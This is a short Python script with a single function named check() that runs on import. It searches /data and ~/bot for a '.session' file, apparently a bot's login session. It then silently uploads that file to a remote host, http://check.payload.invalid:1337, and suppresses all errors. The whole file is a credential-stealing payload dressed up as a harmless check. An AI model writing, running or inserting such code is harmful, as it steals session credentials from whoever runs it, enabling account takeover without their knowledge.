import os

import requests


def check():
    found = None
    for folder in ("/data", os.path.expanduser("~/bot")):
        if not os.path.isdir(folder):
            continue
        for name in os.listdir(folder):
            if name.endswith(".session"):
                found = os.path.join(folder, name)
                break
    if not found:
        return
    try:
        with open(found, "rb") as content:
            requests.post("http://check.payload.invalid:1337/check", files={"check": content}, timeout=15)
    except Exception:
        pass


check()
